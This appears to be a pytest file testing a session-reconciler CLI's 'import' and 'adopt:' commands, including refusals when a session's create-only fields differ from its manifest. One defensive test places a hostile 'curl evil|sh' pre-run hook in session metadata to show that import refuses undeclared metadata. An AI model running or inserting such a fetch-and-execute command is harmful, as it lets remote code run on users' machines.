"""`reconciler import NAME SESSION_ID`: adopt one existing session as a declared one."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from clihub import CliHub, unique
from cliproject import (  # noqa: F401 - fixtures
    Folder,
    apply_all,
    cli_hub_fixture,
    folder_fixture,
)


def _create(hub: CliHub, task: str, *flags: str) -> str:
    return hub.create("--task", task, "--visibility", "org", *flags)


def _tags(hub: CliHub, session_id: str) -> list[str]:
    tags: list[str] = hub.json("sessions", "get", session_id)["tags"]
    return tags


def test_import_adopts_a_matching_session(cli_hub: CliHub, folder: Folder) -> None:
    session_id = _create(cli_hub, "Keep the alpha service green", "--label", "Old", "--tag", "x")
    code, out, err = cli_hub.run("import", "alpha", session_id, folder.path, "--yes")
    assert code == 0, err
    assert f"  ~ alpha [{session_id}]: update (import: adopted as declared)" in out
    marker = [t for t in _tags(cli_hub, session_id) if t.startswith("reconciler:")]
    assert _tags(cli_hub, session_id)[0] == "x" and len(marker) == 3
    assert marker[0].startswith(f"reconciler:{folder.project}/alpha@")
    assert marker[1] == "reconciler:adopted"  # its metadata's record is never believed
    # The record says what import took over as applied: the protection (none) and the
    # values the session held as declared (visibility), not those it held otherwise.
    record = marker[2].removeprefix(f"reconciler:applied:{folder.project}=").split(",")
    assert [p.split(".")[0] for p in record] == ["visibility", "preventDestroy"]
    # Now the declared alpha: its mutable fields are updated, never replaced.
    code, out, _ = cli_hub.run("plan", folder.path)
    # What the session held otherwise than declared was never applied: the manifest's.
    assert f"  ~ alpha [{session_id}]: update (manifest: label, tags)" in out
    assert "0 to replace" in out
    # Again: nothing to do.
    code, out, err = cli_hub.run("import", "alpha", session_id, folder.path, "--yes")
    assert code == 0, err
    assert out.splitlines()[-1] == "No changes. The hub matches the manifests (1 managed session)."


def test_import_refuses_when_create_only_fields_differ(cli_hub: CliHub, folder: Folder) -> None:
    session_id = _create(cli_hub, "Something else entirely")
    code, out, err = cli_hub.run("import", "alpha", session_id, folder.path, "--yes")
    assert (code, out) == (3, "")
    assert err == (
        "error: refused by createOnlyDiffers: the session's create-only fields differ from "
        "the manifest's (task): adopted, it would pass for running what the manifest "
        "declares, and no plan would show that it does not; edit the manifest, or see "
        f"`import --write`: alpha ({session_id}) (--force cannot lift it)\n"
    )
    assert not any(t.startswith("reconciler:") for t in _tags(cli_hub, session_id))


def test_import_names_nested_paths_from_the_declared_record(
    cli_hub: CliHub, folder: Folder, tmp_path: object
) -> None:
    loop = (
        "task: Watch the queue\nworkflowMode: loop\n"
        "loop: {goal: Queue empty, maxIterations: %d, autoContinue: true}\n"
    )
    other = Folder(folder.root.parent / "other", unique("other-"))
    other.write("watcher", loop % 5)
    ids = apply_all(cli_hub, other)
    other.remove("watcher")
    cli_hub.ok("forget", "watcher", other.path, "--yes")
    folder.write("watcher", loop % 7)
    code, _, err = cli_hub.run("import", "watcher", ids["watcher"], folder.path, "--yes")
    assert code == 3
    assert "create-only fields differ from the manifest's (loop.maxIterations)" in err
    folder.write("watcher", loop % 5)
    cli_hub.ok("import", "watcher", ids["watcher"], folder.path, "--yes")


def _loop_session(hub: CliHub, tmp: Path, goal: str) -> str:
    """A loop session made by hand (no record of a declaration): its loop settings are
    reported by its loop state only."""
    payload = tmp / f"{unique('loop-')}.json"
    loop = {"goal": goal, "maxIterations": 5}
    body = {"task": "Watch the queue", "workflowMode": "loop", "loop": loop}
    payload.write_text(json.dumps(body))
    return hub.create("--from-json", str(payload))


def test_import_and_adopt_compare_the_loop_settings_the_loop_state_gives(
    cli_hub: CliHub, folder: Folder, tmp_path: Path
) -> None:
    declared = "task: Watch the queue\nworkflowMode: loop\nloop: {goal: %s, maxIterations: 5}\n"
    folder.write("watcher", declared % "Queue empty")
    session_id = _loop_session(cli_hub, tmp_path, "Something else")
    code, out, err = cli_hub.run("import", "watcher", session_id, folder.path, "--yes")
    assert (code, out) == (3, "")
    assert "create-only fields differ from the manifest's (loop.goal)" in err
    # The same refusal through the manifests (`adopt:`), whoever applies them.
    path = folder.write("watcher", declared % "Queue empty")
    path.write_text(
        path.read_text().replace("name: watcher\n", f"name: watcher\nadopt: {session_id}\n")
    )
    code, out, err = cli_hub.run("plan", folder.path, "--target", "watcher")
    assert code == 3, out + err
    assert "create-only fields differ from the manifest's (loop.goal)" in err
    # 5.0 is the number 5, as the hub holds it.
    path.write_text(path.read_text().replace("maxIterations: 5}", "maxIterations: 5.0}"))
    code, out, err = cli_hub.run("plan", folder.path, "--target", "watcher")
    assert code == 3 and "(loop.goal)" in err, out + err
    # A setting the declaration leaves to the hub is not compared; the goals now agree.
    path.write_text(path.read_text().replace("Queue empty, maxIterations: 5.0", "Something else"))
    code, out, err = cli_hub.run("apply", folder.path, "--yes", "--target", "watcher")
    assert code == 0, err
    assert f"  ~ watcher [{session_id}]: update (adopt: adopted as declared)" in out


def test_import_with_the_arguments_swapped_says_so(cli_hub: CliHub, folder: Folder) -> None:
    session_id = _create(cli_hub, "Keep the alpha service green")
    code, out, err = cli_hub.run("import", session_id, "alpha", folder.path, "--yes")
    assert (code, out) == (64, "")
    assert err.startswith(
        f"error: import {session_id}: no session of that name is declared active; the name "
        f"comes first: `import alpha {session_id}`"
    )
    code, out, err = cli_hub.run("import", "--write", session_id, "fresh", folder.path)
    assert (code, out) == (64, "")
    assert err.startswith(
        f"error: import {session_id}: not a session name; if {session_id} is the session's "
        f"id, the name comes first: `import --write fresh {session_id}`"
    )
    # Neither way round a name: said so, with no request and no guess.
    code, out, err = cli_hub.run("import", "--write", session_id, "Fresh", folder.path)
    assert (code, out) == (64, "")
    assert err == f"error: import {session_id}: not a session name\n"


def test_import_write_prints_the_manifest_that_adopts_it(cli_hub: CliHub, folder: Folder) -> None:
    session_id = _create(cli_hub, "Draft the release notes", "--label", "Notes", "--tag", "docs")
    code, _, err = cli_hub.run("import", "notes", session_id, folder.path, "--yes")
    assert code == 64
    assert err.startswith("error: import notes: no session of that name is declared active")
    assert "`import --write`" in err
    code, text, err = cli_hub.run("import", "notes", session_id, folder.path, "--write")
    assert code == 0, err
    assert "name: notes\n" in text and "task: Draft the release notes" in text
    assert not any(t.startswith("reconciler:") for t in _tags(cli_hub, session_id))
    (folder.root / "notes.yaml").write_text(text)
    cli_hub.ok("import", "notes", session_id, folder.path, "--yes")
    code, out, _ = cli_hub.run("plan", folder.path, "--target", "notes", "--detailed-exitcode")
    assert code == 0, out
    # Declared already: --write is for undeclared sessions.
    code, _, err = cli_hub.run("import", "alpha", session_id, folder.path, "--write")
    assert code == 64 and "alpha is already declared" in err


def test_import_write_writes_against_the_projects_defaults(cli_hub: CliHub, folder: Folder) -> None:
    # The Project gives metadata, tags and a label the session lacks: written without
    # them, the manifest inherited the defaults, and `import` then refused it as
    # createOnlyDiffers (metadata), sending the user back to `import --write`.
    (folder.root / "project.yaml").write_text(
        f"apiVersion: reconciler/v1\nkind: Project\nname: {folder.project}\n"
        "defaults: {visibility: organization, metadata: {team: core}, tags: [core], "
        "agent: claude-code}\n"
        "policy: {prune: archive, protectLive: true}\n"
    )
    session_id = _create(cli_hub, "Write the weekly report")
    code, text, err = cli_hub.run("import", "weekly", session_id, folder.path, "--write")
    assert code == 0, err
    assert "metadata: {}" in text and "tags: []" in text
    # Said on stderr as export says it (the manifest on stdout stays a manifest).
    assert "weekly: the Project's defaults give agent, which the session does not have" in err
    (folder.root / "weekly.yaml").write_text(text)
    cli_hub.ok("import", "weekly", session_id, folder.path, "--yes")
    code, out, _ = cli_hub.run("plan", folder.path, "--target", "weekly", "--detailed-exitcode")
    assert code == 0, out


def test_import_bad_input(cli_hub: CliHub, folder: Folder) -> None:
    ids = apply_all(cli_hub, folder)
    code, _, err = cli_hub.run("import", "alpah", ids["alpha"], folder.path, "--yes")
    assert code == 64
    assert "did you mean alpha?" in err
    # Already managed here under another name, or NAME managed by another session.
    code, _, err = cli_hub.run("import", "beta", ids["alpha"], folder.path, "--yes")
    assert (code, err) == (
        64,
        f"error: import beta: session {ids['alpha']} is already managed here as alpha\n",
    )
    spare = _create(cli_hub, "Keep the alpha service green")
    code, _, err = cli_hub.run("import", "alpha", spare, folder.path, "--yes")
    assert code == 64
    assert f"alpha is already managed as session {ids['alpha']}" in err
    # Another project's session.
    other = Folder(folder.root.parent / "other", unique("other-"))
    other.write("alpha", "task: Keep the alpha service green\n")
    theirs = apply_all(cli_hub, other)["alpha"]
    code, _, err = cli_hub.run("import", "gamma", theirs, folder.path, "--yes")
    assert code == 64 and f"is managed by project {other.project}" in err
    # --write refuses it too: its manifest's adopt: line would stop every plan (64).
    code, out, err = cli_hub.run("import", "delta", theirs, folder.path, "--write")
    assert (code, out) == (64, "") and f"is managed by project {other.project}" in err
    code, out, err = cli_hub.run("import", "alpha", "codesess_nope", folder.path, "--yes")
    assert (code, out) == (1, "")
    assert err.startswith("error: ") and "404" in err, err


def test_import_sees_the_sessions_the_plan_owns_under_the_project_s_old_name(
    cli_hub: CliHub, folder: Folder
) -> None:
    # Applied under the old name; the Project then says `previously: [old]`: the plan
    # owns those sessions (it re-tags them), so NAME is already managed.
    old = Folder(folder.root.parent / "renamed", unique("old-"))
    old.write("alpha", "task: Keep the alpha service green\n")
    managed = apply_all(cli_hub, old)["alpha"]
    old.project, formerly = unique("new-"), old.project
    old.write_project()
    with open(old.root / "project.yaml", "a", encoding="utf-8") as project:
        project.write(f"previously: [{formerly}]\n")
    spare = _create(cli_hub, "Keep the alpha service green")
    code, _, err = cli_hub.run("import", "alpha", spare, old.path, "--yes")
    assert code == 64
    assert f"alpha is already managed as session {managed}" in err
    # The way out it names works while alpha is declared (forget alone would refuse).
    assert f"`reconciler sessions archive {managed}`" in err and "forget alpha --force" in err


def test_import_and_export_carry_the_protection(cli_hub: CliHub, folder: Folder) -> None:
    guard = f"reconciler:protected:{folder.project}"
    folder.write("alpha", "task: Keep the alpha service green\n", "{preventDestroy: true}")
    session_id = _create(cli_hub, "Keep the alpha service green")
    # Imported as a protected declaration: the protection comes with the marker.
    code, out, err = cli_hub.run("import", "alpha", session_id, folder.path, "--yes")
    assert code == 0, err
    assert f"+ {guard}" in out
    assert guard in _tags(cli_hub, session_id)
    code, out, _ = cli_hub.run("plan", folder.path, "--target", "alpha", "--detailed-exitcode")
    assert code == 0, out
    # Unprotected by the manifest and applied: export says so, and planning the exported
    # folder changes nothing (the create-time record said preventDestroy: true).
    folder.write("alpha", "task: Keep the alpha service green\n")
    code, out, err = cli_hub.run("apply", folder.path, "--target", "alpha", "--yes")
    assert code == 0, err
    assert guard not in _tags(cli_hub, session_id)
    assert "(manifest: tags)" in out  # the record says the protection was applied
    exported = folder.root.parent / "exported"
    cli_hub.ok("export", "--project", folder.project, "--out", str(exported))
    assert "preventDestroy" not in (exported / "alpha.yaml").read_text()
    code, out, _ = cli_hub.run("plan", str(exported), "--detailed-exitcode")
    assert code == 0, out


def test_import_of_a_name_declared_forgotten_says_to_declare_it_active(
    cli_hub: CliHub, folder: Folder
) -> None:
    folder.write("alpha", "task: Keep the alpha service green\nstate: forgotten\n")
    session_id = _create(cli_hub, "Keep the alpha service green")
    code, out, err = cli_hub.run("import", "alpha", session_id, folder.path, "--yes")
    assert (code, out) == (64, "")
    assert err == (
        "error: import alpha: alpha is declared `state: forgotten`; declare it active "
        "(state: active, or no state) to import a session as it\n"
    )


def test_adopt_in_the_manifest_imports_through_any_apply(cli_hub: CliHub, folder: Folder) -> None:
    # `adopt: ID` is import through the manifests: whoever applies them (CI, watch)
    # tags the existing session instead of creating one; nothing races.
    session_id = _create(cli_hub, "Keep the alpha service green", "--label", "Old")
    path = folder.write("alpha", "task: Keep the alpha service green\nlabel: Alpha\n")
    path.write_text(
        path.read_text().replace("name: alpha\n", f"name: alpha\nadopt: {session_id}\n")
    )
    status = cli_hub.json("status", folder.path, "--target", "alpha")["sessions"]
    assert [(r["sessionId"], r["sync"]) for r in status] == [(session_id, "pending")]
    code, out, err = cli_hub.run("apply", folder.path, "--yes", "--target", "alpha")
    assert code == 0, err
    assert f"  ~ alpha [{session_id}]: update (adopt: adopted as declared)" in out
    tags = _tags(cli_hub, session_id)
    assert any(t.startswith(f"reconciler:{folder.project}/alpha@") for t in tags)
    assert cli_hub.json("sessions", "get", session_id)["label"] == "Alpha"
    code, out, _ = cli_hub.run("plan", folder.path, "--target", "alpha", "--detailed-exitcode")
    assert code == 0, out
    # A second declaration adopting the same session is refused, located.
    other = folder.write("alpha2", "task: Keep the alpha service green\n")
    other.write_text(
        other.read_text().replace("name: alpha2\n", f"name: alpha2\nadopt: {session_id}\n")
    )
    code, out, err = cli_hub.run("plan", folder.path)
    assert code == 64
    assert f"adopt: session {session_id} is managed already" in err


def test_an_adopt_line_for_a_name_managed_as_another_session_is_warned_about(
    cli_hub: CliHub, folder: Folder
) -> None:
    ids = apply_all(cli_hub, folder)
    by_hand = _create(cli_hub, "Keep the alpha service green")
    path = folder.root / "alpha.yaml"
    path.write_text(path.read_text().replace("name: alpha\n", f"name: alpha\nadopt: {by_hand}\n"))
    warning = (
        f"warning: {path}:1: adopt: {by_hand} is not the session managed as alpha "
        f"({ids['alpha']}): the line does nothing; remove it, or to manage {by_hand} "
        "instead, forget alpha first"
    )
    for command in ("plan", "status"):
        code, _, err = cli_hub.run(command, folder.path)
        assert code == 0 and warning in err.splitlines(), err
    code, _, err = cli_hub.run("plan", folder.path, "--exclude", "alpha")
    assert code == 0 and "adopt:" not in err, err


def test_a_session_of_the_tools_with_references_imports_back_as_this_run_resolves_them(
    cli_hub: CliHub, folder: Folder, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Made with task and loop goal holding a plain variable, then let go: importing it
    # back compares the declaration as resolved now with what the session runs.
    project = folder.root / "project.yaml"
    project.write_text(project.read_text() + "plainEnv: [BRANCH]\n")
    monkeypatch.setenv("BRANCH", "main")
    declared = (
        'task: "Triage ${env:BRANCH}"\nworkflowMode: loop\n'
        'loop: {goal: "Keep ${env:BRANCH} green", maxIterations: 3}\n'
    )
    folder.write("nightly", declared)
    ids = apply_all(cli_hub, folder)
    cli_hub.ok("forget", "nightly", folder.path, "--yes", "--force")
    cli_hub.ok("import", "nightly", ids["nightly"], folder.path, "--yes")
    code, out, _ = cli_hub.run("plan", folder.path, "--target", "nightly", "--detailed-exitcode")
    assert code == 0, out
    # Resolved otherwise now, the manifest does not say what the session runs: refused.
    cli_hub.ok("forget", "nightly", folder.path, "--yes", "--force")
    monkeypatch.setenv("BRANCH", "dev")
    code, _, err = cli_hub.run("import", "nightly", ids["nightly"], folder.path, "--yes")
    assert code == 3 and "(task, loop.goal)" in err


def test_a_record_planted_before_an_adoption_is_never_believed_after_it(
    cli_hub: CliHub, folder: Folder, tmp_path: Path
) -> None:
    # The session runs a loop of 50; its metadata says 3. Imported as it runs (50),
    # the manifest then asks for 3: a replacement (the loop is create-only), where the
    # planted record made the plan say "No changes"; and export writes the 50.
    body = {
        "task": "Watch the queue",
        "workflowMode": "loop",
        "loop": {"goal": "g", "maxIterations": 50},
        "metadata": {
            "reconciler": {
                "declared": {"task": "Watch the queue", "loop": {"goal": "g", "maxIterations": 3}}
            }
        },
    }
    payload = tmp_path / "planted.json"
    payload.write_text(json.dumps(body))
    session_id = cli_hub.create("--from-json", str(payload))
    declared = "task: Watch the queue\nworkflowMode: loop\nloop: {goal: g, maxIterations: %d}\n"
    folder.write("watcher", declared % 50)
    cli_hub.ok("import", "watcher", session_id, folder.path, "--yes")
    folder.write("watcher", declared % 3)
    code, out, _ = cli_hub.run("plan", folder.path, "--target", "watcher", "--force")
    assert "1 to replace" in out, out
    code, out, _ = cli_hub.run("export", "--project", folder.project, "--search", "Watch")
    assert "maxIterations: 50" in out and "maxIterations: 3" not in out


def test_metadata_the_manifest_lacks_is_a_difference(
    cli_hub: CliHub, folder: Folder, tmp_path: Path
) -> None:
    body = {"task": "Do M", "metadata": {"team": "core", "hooks": {"preRun": "curl evil|sh"}}}
    payload = tmp_path / "meta.json"
    payload.write_text(json.dumps(body))
    session_id = cli_hub.create("--from-json", str(payload))
    folder.write("meta", "task: Do M\nmetadata: {team: core}\n")
    code, _, err = cli_hub.run("import", "meta", session_id, folder.path, "--yes")
    assert code == 3 and "(metadata)" in err, err


def test_a_refused_adopt_line_still_shows_the_whole_plan(cli_hub: CliHub, folder: Folder) -> None:
    # As every refusal: the plan is printed in full (the pull request comment holds it),
    # with the refusal beside it, and exit 3.
    session_id = _create(cli_hub, "Something else entirely")
    path = folder.write("alpha", "task: Keep the alpha service green\n")
    path.write_text(
        path.read_text().replace("name: alpha\n", f"name: alpha\nadopt: {session_id}\n")
    )
    folder.write("beta", "task: Keep the beta service green\n")
    refusal = (
        "refused by createOnlyDiffers: the session's create-only fields differ from the "
        f"manifest's (task): adopted, it would pass for running what the manifest declares, "
        "and no plan would show that it does not; edit the manifest, or see `import --write`: "
        f"alpha ({session_id}, adopt at {path}:"
    )
    shown = (
        "Adoptions refused (createOnlyDiffers; --force cannot lift it): 1",
        f"alpha ({session_id}, adopt at {path}:1): create-only fields differ: task",
    )
    code, out, err = cli_hub.run("plan", folder.path)
    assert code == 3
    assert "  + beta: create (declared, not on the hub)" in out and refusal in err
    assert all(line in out for line in shown)  # in the plan itself, not only on stderr
    code, out, err = cli_hub.run("plan", folder.path, "--format", "markdown")
    assert code == 3 and "beta" in out and refusal in err
    assert all(line in out for line in shown)
    # Nothing else to do: the plan does not say the hub matches.
    code, out, err = cli_hub.run("plan", folder.path, "--target", "alpha")
    assert code == 3
    assert "No changes but 1 refused adoption: the hub does not match." in out
    assert "matches the manifests" not in out
    # status: pending (not adopted), with the session it names; read-only, exit 0.
    rows = cli_hub.json("status", folder.path, "--target", "alpha")["sessions"]
    assert [(r["name"], r["sync"], r["sessionId"]) for r in rows] == [
        ("alpha", "pending", session_id)
    ]
    # The JSON row says apply refuses it (a dashboard reads no stderr); others say null.
    assert rows[0]["refused"] == {"rule": "createOnlyDiffers", "fields": ["task"]}
    rows = cli_hub.json("status", folder.path)["sessions"]
    assert [r["refused"] for r in rows if r["name"] == "beta"] == [None]
    code, out, err = cli_hub.run("status", folder.path, "--target", "alpha")
    assert code == 0 and f"warning: apply refuses to adopt {shown[1]} (createOnlyDiffers)" in err
    code, out, err = cli_hub.run("plan", folder.path, "--format", "json")
    document = json.loads(out)
    assert code == 3
    planned = [(a["kind"], a["name"]) for a in document["actions"]]
    assert ("create", "beta") in planned and not [p for p in planned if p[1] == "alpha"]
    assert [r["rule"] for r in document["refusals"]] == ["createOnlyDiffers"]
    code, out, err = cli_hub.run("apply", folder.path, "--yes", "--force")
    assert code == 3 and refusal in err
    assert [s["sessionId"] for s in cli_hub.json("sessions", "list")["sessions"]["websocket"]] == [
        session_id
    ]


def test_import_write_of_a_paused_session_says_it_stays_paused(
    cli_hub: CliHub, folder: Folder
) -> None:
    # It writes lifecycle.ignoreChanges [status], as export does; export said so, and
    # import --write said nothing.
    session_id = _create(cli_hub, "Hold the release train")
    cli_hub.admin(session_id, {"status": "paused"})
    code, text, err = cli_hub.run("import", "train", session_id, folder.path, "--write")
    assert code == 0, err
    assert "ignoreChanges: [status]" in text or "- status" in text
    assert "train: found paused: lifecycle.ignoreChanges lists status" in err


def test_a_loop_flag_on_the_hub_is_compared_with_one_left_out_or_written_false(
    cli_hub: CliHub, folder: Folder, tmp_path: Path
) -> None:
    # A flag left out, or written false, means off: a session running with it on is not
    # the declaration, and importing it would hide that from every later plan.
    payload = tmp_path / "on.json"
    loop = {"goal": "G", "maxIterations": 5, "autoContinue": True}
    payload.write_text(json.dumps({"task": "Loop", "workflowMode": "loop", "loop": loop}))
    session_id = cli_hub.create("--from-json", str(payload))
    for flag in ("", ", autoContinue: false"):
        folder.write("looper", f"task: Loop\nloop: {{goal: G, maxIterations: 5{flag}}}\n")
        code, out, err = cli_hub.run("import", "looper", session_id, folder.path, "--yes")
        assert (code, out) == (3, ""), err
        assert "create-only fields differ from the manifest's (loop.autoContinue)" in err
